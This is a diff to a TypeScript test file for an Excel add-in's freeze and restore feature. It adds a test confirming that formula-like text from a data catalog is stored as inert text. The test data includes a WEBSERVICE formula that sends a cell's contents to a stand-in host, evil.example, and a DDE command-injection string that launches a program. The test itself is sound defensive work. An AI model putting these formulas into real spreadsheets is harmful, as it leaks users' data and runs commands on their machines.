@@ -1,6 +1,7 @@
 // The Excel implementation of the workbook host, run against the preview page's mock
 // Office (the same Excel.run calls, spill ranges, number formats, sheets and document
 // settings): freeze a spilled table and a single cell, then restore them.
+import { SEAL } from "./test-seal";
 import { CellEvaluator } from "../../../src/preview/cell-evaluator";
 import { PreviewHost } from "../../../src/preview/mock-office";
 import { layoutSheet } from "../../../src/preview/sheet-layout";
@@ -13,6 +14,7 @@ import { SOURCES_SHEET } from "../../../src/taskpane/freeze/sources-sheet";
 
 const scope = globalThis as unknown as Record<string, unknown>;
 const DATE_FORMAT = "yyyy-mm";
+const HOSTILE_TEXT = '=WEBSERVICE("https://evil.example/c?d="&ENCODEURL(Sheet1!A1))';
 
 function workbook() {
   const sheet = new SheetModel(20, 6);
@@ -25,6 +27,8 @@ function workbook() {
     ],
     // "slow" never answers: the cell stays #BUSY!.
     VALUE: (code: unknown, _invocation: unknown) => (code === "slow" ? new Promise(() => undefined) : 42.5),
+    // A hostile catalog's text, as PCD.INFO shows it.
+    INFO: (_code: unknown, _field: unknown, _invocation: unknown) => HOSTILE_TEXT,
   };
   const evaluator = new CellEvaluator(sheet, (name) => functions[name]);
   sheet.subscribe((event) => {
@@ -68,6 +72,7 @@ test("freeze writes a spilled table's values with their date formats, the record
   ]);
 
   const outcome = await freeze({
+    seal: SEAL,
     host: excelWorkbookHost,
     scope: "sheet",
     provenance: async () => [],
@@ -85,7 +90,7 @@ test("freeze writes a spilled table's values with their date formats, the record
 
   // A person edits the single cell; restore brings the table back and reports the edit.
   sheet.setContent({ row: 5, column: 1 }, "40");
-  const restored = await restore(excelWorkbookHost, "all");
+  const restored = await restore(excelWorkbookHost, "all", { seal: SEAL });
   expect(restored.restored).toEqual(["Sheet1!B2:C3"]);
   expect(restored.changed).toEqual([{ range: "Sheet1!B6", cell: "Sheet1!B6", frozen: 42.5, now: 40 }]);
   expect(sheet.content({ row: 1, column: 1 })).toBe('=PCD.VALUES("1-1-1")');
@@ -98,6 +103,7 @@ test("a cell still #BUSY! is refused and nothing is written", async () => {
   sheet.setContent({ row: 0, column: 0 }, '=PCD.VALUE("slow")');
   sheet.setContent({ row: 1, column: 0 }, '=PCD.VALUE("1-1-1")');
   const outcome = await freeze({
+    seal: SEAL,
     host: excelWorkbookHost,
     scope: "workbook",
     provenance: async () => [],
@@ -139,4 +145,40 @@ test("the report sheet is written (and written again) from A1", async () => {
     "2-2-2",
     "",
   ]);
+});
+
+test("text that reads as a formula is frozen, listed and restored as text, never as a formula", async () => {
+  const { sheet, host } = workbook();
+  sheet.setContent({ row: 0, column: 0 }, "secret");
+  sheet.setContent({ row: 1, column: 1 }, '=PCD.INFO("1-1-1","description")');
+  const outcome = await freeze({
+    seal: SEAL,
+    host: excelWorkbookHost,
+    scope: "sheet",
+    provenance: async () => [
+      {
+        code: "1-1-1",
+        description: "=cmd|' /C calc'!A0",
+        currency: "@SUM(A1)",
+        unit: "-1+1",
+        releaseMonth: "2026-11",
+        latestMonth: "2026-10",
+        retrievedAt: null,
+        owner: "+owner",
+      },
+    ],
+    now: () => 0,
+  });
+  expect(outcome).toMatchObject({ status: "frozen" });
+  // Excel keeps a value written with the text prefix as text: the cell shows the text.
+  expect(sheet.content({ row: 1, column: 1 })).toBe(`'${HOSTILE_TEXT}`);
+  const frozen = await excelWorkbookHost.readRange("Sheet1!B2");
+  expect(frozen.values).toEqual([[HOSTILE_TEXT]]);
+  const sources = host.sheetNamed(SOURCES_SHEET);
+  const row = [0, 1, 2, 3, 7].map((column) => sources.content({ row: 1, column }));
+  expect(row).toEqual(["1-1-1", "'=cmd|' /C calc'!A0", "'@SUM(A1)", "'-1+1", "'+owner"]);
+  // The text read back is what was frozen: Restore finds it unchanged and puts the formula back.
+  const restored = await restore(excelWorkbookHost, "all", { seal: SEAL });
+  expect(restored).toMatchObject({ restored: ["Sheet1!B2"], changed: [] });
+  expect(sheet.content({ row: 1, column: 1 })).toBe('=PCD.INFO("1-1-1","description")');
 });
